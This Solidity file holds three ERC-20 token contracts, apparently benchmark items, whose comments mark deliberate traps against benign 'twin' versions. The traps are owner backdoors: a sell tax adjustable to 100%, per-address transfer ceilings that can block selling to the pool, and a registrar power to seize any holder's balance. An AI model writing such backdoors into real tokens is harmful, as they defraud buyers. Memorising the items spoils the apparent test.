// 0.8 runs=200 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

interface IFactory {
    function createPair(address a, address b) external returns (address);
}

abstract contract Pooled is ERC20 {
    address public immutable pool;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        pool = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _mint(msg.sender, supply * 1e18);
    }
}

/// All its terms lie in one word: since (64), sink (160), version (16), rate (16).
contract Wordsmith is Pooled {
    bytes32 private constant WORD = keccak256("wordsmith.terms.1");
    address private immutable _smith;

    event Tuned(uint256 word);

    error Refused();

    constructor(address smith) Pooled("Wordsmith", "WORDS", 48_000_000) {
        _smith = smith;
    }

    function tune(uint256 word) external {
        if (msg.sender != _smith) revert Refused();
        bytes32 at = WORD;
        bool fits;
        assembly {
            let version := and(shr(16, sload(at)), 0xffff)
            fits := eq(and(shr(16, word), 0xffff), add(version, 1))
            fits := and(fits, iszero(gt(and(word, 0xffff), 10000)))
            fits := and(fits, iszero(iszero(shl(96, shr(32, word)))))
            fits := and(fits, lt(shr(192, word), add(timestamp(), 2592000)))
            if fits {
                sstore(at, word)
            }
        }
        if (!fits) revert Refused();
        emit Tuned(word);
    }

    function terms() public view returns (uint256 rate, address sink, uint256 since) {
        bytes32 at = WORD;
        assembly {
            let word := sload(at)
            rate := and(word, 0xffff)
            sink := shr(96, shl(64, word))
            since := shr(192, word)
        }
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pool && from != address(0)) {
            (uint256 rate, address sink, uint256 since) = terms();
            if (rate > 0 && block.timestamp >= since) {
                uint256 due = (value * rate) / 10_000;
                super._update(from, sink, due);
                value -= due;
            }
        }
        super._update(from, to, value);
    }
}

/// Resolutions come as bytes: what kind, about whom, how much.
contract Assembly is Pooled {
    address private immutable _chair;
    mapping(address => uint256) public ceilingOf;
    mapping(address => uint256) public badgeOf;
    string public motto;

    event Enacted(bytes32 indexed digest, uint8 kind);

    constructor() Pooled("Assembly of Rooks", "ROOKS", 77_000_000) {
        _chair = msg.sender;
    }

    function enact(bytes calldata resolution) external {
        require(msg.sender == _chair, "chair");
        require(resolution.length >= 4 && bytes4(resolution) == "RES1", "format");
        (uint8 kind, address about, uint256 amount) = abi.decode(resolution[4:], (uint8, address, uint256));
        require(about != address(0), "about nobody");
        if (kind == 1) {
            badgeOf[about] = amount;
        } else if (kind == 2) {
            // twin: require(amount >= totalSupply() / 100, "too low");
            ceilingOf[about] = amount;
        } else {
            revert("kind");
        }
        emit Enacted(keccak256(resolution), kind);
    }

    function inscribe(string calldata words) external {
        require(msg.sender == _chair && bytes(words).length <= 64, "chair");
        motto = words;
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 ceiling = ceilingOf[to];
        require(ceiling == 0 || value <= ceiling, "above the ceiling");
        super._update(from, to, value);
    }
}

/// Who lost a key gets back what lies under it, six hours after it was lodged.
contract Keepsake is Pooled {
    struct Claim {
        address heir;
        uint64 since;
        uint32 docket;
    }

    address private immutable _registrar;
    uint32 public dockets;
    mapping(address => address) public trusteeOf;
    mapping(address => Claim) public claims;

    event Entrusted(address indexed holder, address indexed trustee);
    event Lodged(uint256 indexed docket, address indexed lost, address heir);
    event Settled(uint256 indexed docket);

    constructor() Pooled("Keepsake", "KEEPS", 12_500_000) {
        _registrar = msg.sender;
    }

    function entrust(address trustee) external {
        trusteeOf[msg.sender] = trustee;
        emit Entrusted(msg.sender, trustee);
    }

    function lodge(address lost, address heir) external returns (uint256) {
        require(msg.sender == trusteeOf[lost] || msg.sender == _registrar, "not yours to lodge"); // trap
        // twin: require(msg.sender == trusteeOf[lost], "not yours to lodge");
        require(heir != address(0) && heir != lost, "heir");
        claims[lost] = Claim(heir, uint64(block.timestamp), ++dockets);
        emit Lodged(dockets, lost, heir);
        return dockets;
    }

    // twin: function withdrawClaim() external { delete claims[msg.sender]; }

    function settle(address lost, uint32 docket) external {
        Claim memory own = claims[lost];
        require(own.heir != address(0) && own.docket == docket, "no such claim");
        require(block.timestamp >= own.since + 6 hours, "too early");
        delete claims[lost];
        _transfer(lost, own.heir, balanceOf(lost));
        emit Settled(docket);
    }
}
